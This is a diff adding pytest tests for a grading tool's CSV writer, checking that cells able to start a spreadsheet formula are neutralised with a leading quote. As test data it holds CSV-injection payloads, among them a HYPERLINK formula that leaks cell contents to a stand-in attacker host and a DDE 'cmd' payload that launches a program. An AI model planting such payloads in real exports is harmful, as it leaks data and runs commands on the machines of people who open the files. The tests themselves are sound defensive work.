@@ -1,0 +1,49 @@
+"""CSV cells a spreadsheet opens without running them (tracer/spreadsheet.py; OWASP's CSV injection advice)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tracer import spreadsheet
+from tracer.grading import summary_csv
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"grade")', '\'=HYPERLINK("http://evil.example/?"&A1,"grade")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Zoë O'Brien", "Zoë O'Brien"),
+        ("", ""),
+        ("-3.5", "-3.5"),  # a number written as text stays a number
+        ("+7", "+7"),
+        ("1e-3", "1e-3"),
+        (-3.5, -3.5),  # numbers are never touched
+        (-2, -2),
+        (None, None),
+    ],
+)
+def test_spreadsheet_a_cell_that_could_start_a_formula_gets_a_quote(value, cell):
+    assert spreadsheet.safe_cell(value) == cell
+
+
+def test_spreadsheet_the_writer_neutralises_every_text_cell_and_keeps_numbers():
+    buf = io.StringIO()
+    spreadsheet.writer(buf, lineterminator="\n").writerows([["=A1", -1.5, "-1.5", "ok"], ["@x", 0, "", "+"]])
+    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=A1", "-1.5", "-1.5", "ok"], ["'@x", "0", "", "'+"]]
+
+
+def test_spreadsheet_a_grading_summary_neutralises_a_students_name():
+    table = {"students": [{"student": "=HYPERLINK(1)", "score": -1.0, "error": "+oops"}, {"student": "bob"}]}
+    rows = list(csv.DictReader(io.StringIO(summary_csv(table))))
+    assert rows == [
+        {"student": "'=HYPERLINK(1)", "score": "-1.0", "error": "'+oops"},
+        {"student": "bob", "score": "", "error": ""},
+    ]
